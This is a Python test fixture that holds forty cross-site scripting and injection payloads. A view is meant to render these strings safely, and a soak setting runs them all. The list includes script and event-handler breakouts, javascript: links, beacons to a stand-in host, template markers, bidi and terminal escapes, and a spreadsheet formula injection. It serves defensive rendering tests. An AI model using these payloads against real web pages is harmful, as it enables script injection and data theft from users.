"Forty texts that a model, a file's name or a server's error could say, and that want to run."

import os

HIT = "window.hit=1"
HOST = "http://203.0.113.7"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</textarea></title></style><script>{HIT}</script>",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>",
    f"<ScRiPt src={HOST}/a.js></sCrIpT>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<img src=x onerror='{HIT}'>",
    f'" onerror="{HIT}" src="x',
    f"' onmouseover='{HIT}' x='",
    f"<img src={HOST}/pixel.png>",
    f"<img srcset='{HOST}/a.png 2x'>",
    f"<svg/onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=9>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<details open ontoggle='{HIT}'><summary>s</summary></details>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    f"<object data='{HOST}/o'></object><embed src='{HOST}/e'>",
    f"<video src={HOST}/v onerror={HIT} autoplay></video>",
    f"<audio src={HOST}/a onerror={HIT}></audio>",
    f"<input autofocus onfocus={HIT}>",
    f"<form action='{HOST}/f'><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={HOST}/m'>",
    f"<base href='{HOST}/'><link rel=stylesheet href='{HOST}/c.css'>",
    f"<style>@import '{HOST}/s.css'; * {{background: url({HOST}/b.png)}}</style>",
    f"<div style='background:url({HOST}/d.png)' onclick={HIT}>x</div>",
    f"<body onload={HIT} onpageshow={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<template><script>{HIT}</script></template><noscript><p title='</noscript><img src=x>'>",
    f"[x](javascript:{HIT}) ![x]({HOST}/md.png) <{HOST}/auto>",
    f"<a href='javascript:{HIT}'>x</a> <a href='{HOST}/' ping='{HOST}/p'>y</a>",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
    "{{ 7 * 7 }} {% raw %} ${window.hit=1} <%= 1 %> #{window.hit=1}",
    "$\\href{javascript:window.hit=1}{x}$ $$\\unicode{x3c}$$",
    "\u202e<b onclick=window.hit=1>\u2066 \x1b]8;;http://203.0.113.7/\x07x\x1b]8;;\x07",
    "＜script＞window.hit=1＜/script＞ \x00<\x00script>window.hit=1",
    '=HYPERLINK("http://203.0.113.7/","x") | @SUM(1) | +1 | -1',
    "</pre></td></tr></table></div></details><script>window.hit=1</script>",
]

# the rest of them, where a view is tried with a few in CI and with all in a soak
IN_A_SOAK = PAYLOADS if os.environ.get("HALOS_NB_LONG") == "soak" else []
